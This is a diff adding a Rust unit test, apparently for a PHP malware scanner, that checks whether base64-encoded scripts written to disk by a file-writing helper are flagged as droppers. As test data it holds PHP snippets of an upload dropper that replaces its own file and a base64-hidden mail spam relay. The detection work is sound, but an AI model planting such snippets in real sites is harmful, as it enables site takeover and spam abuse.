@@ -1412,3 +1412,35 @@ fn an_upload_put_in_place_of_the_script_itself_is_a_dropper() {
     let s = "<?php if (md5($_POST['key']) == $k) { move_uploaded_file($_FILES['update']['tmp_name'], __FILE__); }";
     assert_eq!(sinks(s), [(Why::UploadDropper, Danger::High)]);
 }
+
+#[test]
+fn a_decoded_script_handed_to_the_files_own_writer_is_a_dropper() {
+    // fresh67's mailer spreader: a spam relay kept in base64, written into random folders.
+    let relay = "<?php $to = base64_decode($_POST['mailto']); $h = base64_decode($_POST['msgheader']);\n\
+                 if (mail($to, $_POST['s'], $_POST['b'], $h)) echo 'sent_ok';";
+    let b64 = base64_for_test(relay.as_bytes());
+    let s = format!(
+        "<?php $fileData = \"{b64}\";\nfunction FileWrite($p, $d) {{ if ($fp = fopen($p, 'w')) {{ fwrite($fp, $d); fclose($fp); }} }}\n\
+         FileWrite($dir . '/memoris.php', base64_decode($fileData));"
+    );
+    assert!(sinks(&s).contains(&(Why::UploadDropper, Danger::High)), "{:?}", sinks(&s));
+    // A harmless page kept in base64 and written by the same helper.
+    let page = base64_for_test(b"<?php echo 'Under maintenance'; ?>");
+    let s = format!(
+        "<?php $d = \"{page}\";\nfunction FileWrite($p, $d) {{ $fp = fopen($p, 'w'); fwrite($fp, $d); fclose($fp); }}\n\
+         FileWrite(__DIR__ . '/index.php', base64_decode($d));"
+    );
+    assert!(!sinks(&s).contains(&(Why::UploadDropper, Danger::High)), "{:?}", sinks(&s));
+}
+
+fn base64_for_test(b: &[u8]) -> String {
+    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::new();
+    for c in b.chunks(3) {
+        let n = (c[0] as u32) << 16 | (*c.get(1).unwrap_or(&0) as u32) << 8 | *c.get(2).unwrap_or(&0) as u32;
+        for k in 0..4 {
+            out.push(if k <= c.len() { A[(n >> (18 - 6 * k) & 63) as usize] as char } else { '=' });
+        }
+    }
+    out
+}
